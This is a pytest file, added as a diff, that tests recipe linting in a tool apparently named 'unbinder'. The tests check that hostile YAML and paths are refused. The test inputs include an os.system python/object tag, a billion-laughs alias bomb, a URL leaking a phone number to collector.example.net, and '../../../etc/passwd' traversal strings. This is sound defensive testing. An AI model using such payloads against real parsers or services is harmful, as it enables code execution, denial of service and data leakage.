@@ -1,0 +1,228 @@
+"""Recipe loading and lint: every problem as file:line: message, hostile YAML refused."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from unbinder.cli import cli
+from unbinder.lint import lint_file
+from unbinder.paths import fixtures_dir, recipes_dir
+from unbinder.recipe import json_schema, load_all
+
+EXAMPLE = recipes_dir() / "example-cn.yaml"
+
+
+def _write(tmp_path: Path, text: str, name: str = "example-cn.yaml") -> Path:
+    path = tmp_path / name
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def _line_of(text: str, needle: str) -> int:
+    return next(i for i, line in enumerate(text.splitlines(), start=1) if needle in line)
+
+
+def _messages(path: Path) -> list[str]:
+    return [str(p) for p in lint_file(path, fixtures_dir()) if p.severity == "error"]
+
+
+def test_shipped_recipes_are_clean() -> None:
+    result = CliRunner().invoke(cli, ["recipes", "lint"])
+    assert result.exit_code == 0, result.output
+    assert "0 error(s)" in result.output
+
+
+def test_schema_file_is_in_sync_with_the_model() -> None:
+    on_disk = json.loads((recipes_dir() / "schema.json").read_text(encoding="utf-8"))
+    assert on_disk == json_schema(), "run: unbinder recipes schema --write"
+
+
+def test_every_recipe_names_the_schema_for_editors() -> None:
+    for loaded in load_all():
+        first = loaded.path.read_text(encoding="utf-8").splitlines()[0]
+        assert first == "# yaml-language-server: $schema=schema.json", loaded.path
+
+
+def test_bad_yaml_names_the_line(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8").replace("regions: [CN]", "regions: [CN")
+    errors = _messages(_write(tmp_path, text))
+    assert len(errors) == 1
+    assert errors[0].startswith(f"{tmp_path / 'example-cn.yaml'}:")
+    assert "invalid YAML" in errors[0]
+
+
+def test_unknown_key_names_its_line_and_suggests(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8").replace(
+        "      - click: next_button\n", "      - clik: next_button\n", 1
+    )
+    path = _write(tmp_path, text)
+    errors = _messages(path)
+    line = _line_of(text, "clik: next_button")
+    assert any(
+        e.startswith(f"{path}:{line}:") and "unknown step 'clik'" in e and "'click'" in e
+        for e in errors
+    ), errors
+
+
+def test_unknown_top_level_key(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8").replace("harm: 3", "harm: 3\nhomepgae: x")
+    path = _write(tmp_path, text)
+    errors = _messages(path)
+    assert any(
+        f":{_line_of(text, 'homepgae')}:" in e and "unknown key 'homepgae'" in e for e in errors
+    ), errors
+
+
+def test_undefined_selector(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8").replace(
+        "      - click: next_button\n", "      - click: nxt_button\n", 1
+    )
+    path = _write(tmp_path, text)
+    errors = _messages(path)
+    line = _line_of(text, "click: nxt_button")
+    assert any(f":{line}:" in e and "selector 'nxt_button' is not defined" in e for e in errors), (
+        errors
+    )
+
+
+def test_host_outside_domains(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8").replace(
+        "      - goto: https://passport.example-cn.test/forgot",
+        "      - goto: https://collector.example.net/?n={phone.e164}",
+    )
+    path = _write(tmp_path, text)
+    errors = _messages(path)
+    line = _line_of(text, "collector.example.net")
+    assert any(
+        f":{line}:" in e and "'collector.example.net' is not in this recipe's domains" in e
+        for e in errors
+    ), errors
+
+
+def test_python_object_tag_is_refused(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8").replace(
+        "maintainers: [unbinder]",
+        "maintainers: !!python/object/apply:os.system ['touch /tmp/pwned']",
+    )
+    path = _write(tmp_path, text)
+    errors = _messages(path)
+    assert len(errors) == 1
+    assert f":{_line_of(text, 'python/object')}:" in errors[0]
+    assert "can never run code" in errors[0]
+    assert not Path("/tmp/pwned").exists()
+
+
+def test_billion_laughs_is_refused_fast(tmp_path: Path) -> None:
+    bomb = ["a: &a [x, x, x, x, x, x, x, x, x]"]
+    for i, name in enumerate("bcdefghij"):
+        prev = "abcdefghij"[i]
+        bomb.append(
+            f"{name}: &{name} [*{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}]"
+        )
+    path = _write(tmp_path, "\n".join(bomb) + "\n")
+    errors = _messages(path)
+    assert len(errors) == 1
+    assert "anchors and aliases" in errors[0]
+
+
+def test_absurd_timeouts_and_retries_are_refused(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8").replace(
+        "      - click: next_button\n",
+        "      - click: next_button\n        timeout: 99999\n"
+        "      - retry: {times: 1000, steps: [{click: next_button}], until: {text: x}}\n",
+        1,
+    )
+    errors = _messages(_write(tmp_path, text))
+    assert any("timeout: Input should be less than or equal to 120" in e for e in errors), errors
+    assert any("times: Input should be less than or equal to 5" in e for e in errors), errors
+
+
+def test_destructive_step_without_confirm(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8")
+    start = text.index("      - confirm:\n          action:\n            en: Change")
+    end = text.index("      - click: {target: confirm_change, destructive: true}")
+    broken = text[:start] + text[end:]
+    path = _write(tmp_path, broken)
+    errors = _messages(path)
+    line = _line_of(broken, "confirm_change, destructive: true")
+    assert any(f":{line}:" in e and "needs a `confirm` step before it" in e for e in errors), errors
+
+
+def test_outcome_without_a_test(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8")
+    start = text.index("  - name: too many requests is rate limited")
+    end = text.index("  - name: risk control needs a human")
+    path = _write(tmp_path, text[:start] + text[end:])
+    errors = _messages(path)
+    assert any(
+        "the check flow can end `rate_limited` but no test expects it" in e for e in errors
+    ), errors
+
+
+def test_unknown_placeholder(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8").replace(
+        "{phone.national_digits}", "{phone.digits}", 1
+    )
+    errors = _messages(_write(tmp_path, text))
+    assert any("unknown placeholder {phone.digits}" in e for e in errors), errors
+
+
+def test_verdict_outcome_in_an_else_branch(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8").replace(
+        "      - click: next_button\n",
+        "      - click: next_button\n"
+        "      - if:\n"
+        "          condition: {visible: slider_captcha}\n"
+        "          then: [{outcome: {status: needs_human, kind: captcha}}]\n"
+        "          else: [{outcome: {status: not_bound}}]\n",
+        1,
+    )
+    errors = _messages(_write(tmp_path, text))
+    assert any("an `else` proves nothing" in e for e in errors), errors
+
+
+def test_missing_replica(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8")
+    path = _write(tmp_path, text)
+    errors = [str(p) for p in lint_file(path, tmp_path / "no-fixtures")]
+    assert any("no offline replica" in e for e in errors), errors
+
+
+def test_lint_cli_reports_file_line_and_exits_1(tmp_path: Path) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8").replace(
+        "      - click: next_button\n", "      - click: nxt_button\n", 1
+    )
+    path = _write(tmp_path, text)
+    result = CliRunner().invoke(cli, ["recipes", "lint", str(path)])
+    assert result.exit_code == 1
+    assert (
+        f"{path}:{_line_of(text, 'nxt_button')}: selector 'nxt_button' is not defined"
+        in result.output
+    )
+
+
+def test_replica_page_escaping_the_fixture_folder_is_refused(tmp_path: Path) -> None:
+    fixtures = tmp_path / "fixtures"
+    shutil.copytree(fixtures_dir() / "example-cn", fixtures / "example-cn")
+    replica = fixtures / "example-cn" / "replica.yaml"
+    replica.write_text(
+        replica.read_text(encoding="utf-8").replace(
+            "page: forgot.html", "page: ../../../etc/passwd"
+        ),
+        encoding="utf-8",
+    )
+    errors = [str(p) for p in lint_file(EXAMPLE, fixtures)]
+    assert any("escapes the fixture folder" in e for e in errors), errors
+
+
+@pytest.mark.parametrize("bad_id", ["../../etc", "Example", "a b"])
+def test_unknown_or_hostile_platform_ids(bad_id: str) -> None:
+    result = CliRunner().invoke(cli, ["recipes", "test", bad_id])
+    assert result.exit_code == 2
+    assert "no recipe for platform" in result.output
+    assert "Traceback" not in result.output
